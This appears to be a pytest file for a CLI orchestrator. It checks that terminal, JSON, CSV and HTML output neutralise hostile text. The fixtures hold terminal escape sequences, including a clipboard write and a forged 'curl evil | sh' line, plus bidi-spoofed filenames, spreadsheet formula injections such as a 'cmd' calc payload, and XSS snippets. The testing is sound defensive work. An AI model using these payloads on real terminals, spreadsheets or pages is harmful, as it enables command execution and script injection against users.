"""Whatever a version, a reason, a host name or the output of a script holds: it is shown, and no terminal obeys it."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from functools import partial
from html.parser import HTMLParser
from typing import Any

import click
import pytest

from orchestrator.cli import group
from orchestrator.cli.app import App
from orchestrator.display import base
from orchestrator.display.base import Manner
from orchestrator.display.json_lines import JsonDisplay
from orchestrator.display.pages import history as history_page
from orchestrator.display.plain import PlainDisplay
from orchestrator.display.terminal import TerminalDisplay
from orchestrator.errors import as_text
from orchestrator.report.markup import el
from orchestrator.views.history import History, Origin, RunAccount, Span
from orchestrator.visible import as_json, shown, styled, visible
from workflows.model.errors import WorkflowError

Make = Callable[..., Any]
NOW = datetime(2026, 11, 22, tzinfo=UTC)
ATTACKS = {
    "a colour": "\x1b[31mred\x1b[0m",
    "a colour that hides": "\x1b[8mhidden",
    "a title for the window": "\x1b]0;pwned\x07",
    "a screen wiped": "\x1b[2J\x1b[H",
    "an escape of one byte": "\x9b2J\x9d0;x\x9c",
    "a clipboard filled": "\x1b]52;c;Y3VybCBldmls\x07",
    "a line overwritten": "failed\rdone",
    "a line of its own": "x\n  next      curl evil | sh",
    "a line by a separator": "x\u2028next\u2029y\x85z\x0bv\x0cw",
    "text backwards": "abc\u202egpj.exe\u202c",
    "text isolated": "\u2066x\u2069\u200f\u061c",
    "letters of no width": "ro\u200bot\ufeff\u2060\u00ad",
    "tags": "x\U000e0041\U000e007f",
    "backspaces": "good\b\b\b\bbad!",
    "bytes that are no UTF-8": b"\xff\xfe\x80".decode(errors="surrogateescape"),
    "half a character": "\ud800",
    "nul and delete": "\0\x7f",
    "a colour that pretends to be ours": "\x1b[12345678901234567;32mdone",
}
ALL = "".join(ATTACKS.values())


def clean(text: str, keep: str = "\n") -> None:
    """Nothing in it that a terminal obeys or that nobody sees, and it can be written."""
    hidden = [char for char in text if char not in keep and unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Zl", "Zp"}]
    assert hidden == []
    text.encode()


def one_line(text: str) -> None:
    clean(text)
    assert text.count("\n") == 1
    assert text.endswith("\n")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("color", [True, False])
def test_a_report_shows_it_and_obeys_only_our_own_colours(attack: str, *, color: bool) -> None:
    text = ATTACKS[attack]
    line = f"a {text} {styled(text, fg='red')} b"
    out = io.StringIO()
    (TerminalDisplay(out, Manner(), color=True) if color else PlainDisplay(out, Manner())).show([line], {})
    said = out.getvalue()
    if color:
        assert said.count("\x1b") == 2
        assert "\x1b[31m" in said
        assert "\x1b[0m" in said
        said = re.sub(r"\x1b\[(31|0)m", "", said)
    one_line(said)
    assert said == f"a {visible(text)} {visible(text)} b\n"


@pytest.mark.parametrize("attack", ATTACKS)
def test_data_say_the_same_and_hide_nothing(attack: str) -> None:
    document = {"schema": "orchestrate.x/1", ATTACKS[attack]: [ATTACKS[attack], {"a": ATTACKS[attack]}]}
    out = io.StringIO()
    JsonDisplay(out, Manner()).show([], document)
    one_line(out.getvalue())
    assert json.loads(out.getvalue()) == document


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_event_shows_it_on_every_display(run: Make, event: Make, attack: str) -> None:
    text = ATTACKS[attack]
    events = [
        event("step-started", "fetch", title=text), event("step-progress", "fetch", message=text),
        event("step-waiting", "fetch", reason=text), event("step-done", "fetch", summary=text, seconds=1.0),
        event("note", "fetch", message=text, file=text), event("step-failed", "fetch", message=text, key=text), event(text, text),
    ]  # fmt: skip
    for kind in (PlainDisplay, JsonDisplay, partial(TerminalDisplay, color=False)):
        out = io.StringIO()
        display = kind(out, Manner())
        display.run_begins(run(plan={"source": text, "target": text}))
        for made in events:
            display.event(made)
        display.run_ends(run("waiting"))
        clean(out.getvalue())


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_error_shows_it_and_only_its_own_remedies(monkeypatch: pytest.MonkeyPatch, attack: str) -> None:
    text = ATTACKS[attack]
    error = WorkflowError(
        f"cannot read {text}", key="x", command=text, detail=[text], unharmed=[text], next=[f"ls {text}    see"]
    )
    lines = as_text(error, debug=True)
    for line in lines:
        clean(line, keep="\t")
        assert not line.startswith("  next      curl")
    said: list[str] = []
    monkeypatch.setattr(click, "echo", lambda text, **_: said.append(text))
    group._show(error, App(json=True), as_data=True)
    clean(said[0], keep="")
    assert json.loads(said[0])["message"] == f"cannot read {text}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_question_shows_it(monkeypatch: pytest.MonkeyPatch, attack: str) -> None:
    class Asked(io.StringIO):
        def isatty(self) -> bool:
            return True

    out = Asked()
    monkeypatch.setattr(base.sys, "stdin", Asked("y\n"))
    assert base.ask_terminal(Manner(), out, f"remove {ATTACKS[attack]}?", "--yes")
    clean(out.getvalue(), keep="")


def a_history(text: str) -> History:
    span = Span(component=text, version=text, start=NOW, origin=Origin.RUN, before=text, by=text, reason=text, run=text)
    run = RunAccount(
        id="other", workflow="upgrade", began=NOW, by=text, reason=text, source=text, target="20.10", ended=NOW, outcome="failed"
    )
    return History(spans=[span], runs=[run])


FORMULAS = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff201",
]


@pytest.mark.parametrize("text", [*ATTACKS.values(), *FORMULAS])
def test_a_spreadsheet_shows_it_in_one_line_and_computes_nothing(text: str) -> None:
    said = history_page.as_csv(a_history(text))
    clean(said)
    assert said.count("\n") == 3
    cells = [cell for row in csv.reader(io.StringIO(said)) for cell in row]
    assert [cell for cell in cells if cell.strip()[:1] in set("=+-@\uff1d\uff0b\uff0d\uff20")] == []


class Read(HTMLParser):
    """A page as a browser reads it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.text += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


PAGES = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' a='b", "&#27;[2J"]


@pytest.mark.parametrize("text", [*ATTACKS.values(), *PAGES])
def test_a_page_shows_it_and_runs_nothing(text: str) -> None:
    page = el("p", text, el("b", text, title=text), id=text)
    clean(page)
    read = Read(page)
    assert read.tags == ["p", "b"]
    assert "".join(read.text) == visible(text, "\t\n") * 4


def test_every_character_is_either_seen_or_written_out() -> None:
    chance = random.Random(20260301)
    codes = [
        *range(0x3000),
        *range(0xD7F0, 0xE010),
        *range(0xFE00, 0x10000),
        *(chance.randrange(0x110000) for _ in range(20_000)),
    ]
    for code in codes:
        char = chr(code)
        clean(visible(char, keep=""), keep="")
        clean(shown(f"x{char}", color=False), keep="\t")
        said = as_json([char])
        clean(said, keep="")
        assert json.loads(said) == [char]
    assert visible("Grüße, Ελλάδα, 東京\u3000、 a\u00a0b") == "Grüße, Ελλάδα, 東京\u3000、 a\u00a0b"
